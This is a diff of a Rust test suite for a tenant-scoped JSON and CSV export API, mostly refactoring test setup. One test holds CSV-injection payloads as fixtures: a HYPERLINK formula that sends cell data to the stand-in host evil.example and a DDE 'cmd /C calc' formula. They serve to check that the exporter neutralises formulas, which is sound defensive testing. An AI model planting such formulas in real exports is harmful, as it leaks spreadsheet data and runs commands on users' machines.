@@ -92,8 +92,7 @@ fn attachment_name(res: &reqwest::Response) -> String {
 
 #[tokio::test]
 async fn the_json_export_is_one_document_of_the_projects_rows_only() {
-    let h = Harness::new().await;
-    let t = h.tenant(Plan::Enterprise).await;
+    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
     let other = h.tenant(Plan::Enterprise).await;
     let mine = seed(&h, &t, "mine").await;
     let theirs = seed(&h, &other, "theirs").await;
@@ -122,21 +121,13 @@ async fn the_json_export_is_one_document_of_the_projects_rows_only() {
     }
     let doc: Value = serde_json::from_str(&text).expect("one JSON document");
     // The members in their documented order (the parsed map sorts its keys).
-    let positions: Vec<usize> = [
-        "project_id",
-        "site_id",
-        "exported_at",
-        "contacts",
-        "email_log",
-        "events",
-        "conversions",
-    ]
-    .iter()
-    .map(|k| {
-        text.find(&format!("\"{k}\":"))
-            .unwrap_or_else(|| panic!("{k} missing"))
-    })
-    .collect();
+    let positions: Vec<usize> = EXPORT_MEMBERS
+        .iter()
+        .map(|k| {
+            text.find(&format!("\"{k}\":"))
+                .unwrap_or_else(|| panic!("{k} missing"))
+        })
+        .collect();
     assert!(positions.is_sorted(), "{positions:?}");
     assert_eq!(doc.as_object().unwrap().len(), 7);
     assert_eq!(doc["project_id"], t.project.to_string().as_str());
@@ -232,8 +223,7 @@ fn unzip(bytes: &[u8]) -> HashMap<String, Vec<Vec<String>>> {
 
 #[tokio::test]
 async fn the_csv_export_is_a_zip_of_one_csv_per_table() {
-    let h = Harness::new().await;
-    let t = h.tenant(Plan::Enterprise).await;
+    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
     let other = h.tenant(Plan::Enterprise).await;
     let mine = seed(&h, &t, "mine").await;
     let theirs = seed(&h, &other, "theirs").await;
@@ -310,8 +300,7 @@ async fn the_csv_export_is_a_zip_of_one_csv_per_table() {
 
 #[tokio::test]
 async fn every_row_is_exported_once_across_pages_in_both_formats() {
-    let h = Harness::new().await;
-    let t = h.tenant(Plan::Enterprise).await;
+    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
     let other = h.tenant(Plan::Enterprise).await;
     // 2,500 contacts: three pages of the export's 1,000, interleaved with another project's.
     for (project, n) in [(t.project, 2_500), (other.project, 700)] {
@@ -353,8 +342,7 @@ async fn every_row_is_exported_once_across_pages_in_both_formats() {
 
 #[tokio::test]
 async fn a_site_export_holds_the_sites_contacts_their_rows_and_its_email_log() {
-    let h = Harness::new().await;
-    let t = h.tenant(Plan::Enterprise).await;
+    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
     let other = h.tenant(Plan::Enterprise).await;
     let mine = seed(&h, &t, "mine").await;
     let theirs = seed(&h, &other, "theirs").await;
@@ -388,8 +376,7 @@ async fn a_site_export_holds_the_sites_contacts_their_rows_and_its_email_log() {
 
 #[tokio::test]
 async fn the_export_needs_the_admin_scope_and_valid_parameters() {
-    let h = Harness::new().await;
-    let t = h.tenant(Plan::Free).await;
+    let (h, t) = Harness::with_tenant(Plan::Free).await;
     for key in [&t.read, &t.write] {
         let res = export(&h, key, "?format=json").await;
         expect_error(res, 403, "FORBIDDEN").await;
@@ -534,8 +521,7 @@ async fn stalled_exports_are_bounded_and_released() {
 /// with a leading `'` (OWASP, CSV injection); it was written as it was.
 #[tokio::test]
 async fn csv_cells_that_start_a_formula_are_neutralised() {
-    let h = Harness::new().await;
-    let t = h.tenant(Plan::Enterprise).await;
+    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
     let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"Open")"#;
     for (email, first, last) in [
         ("f1@x.io", hyperlink, "+1+cmd|' /C calc'!A0"),
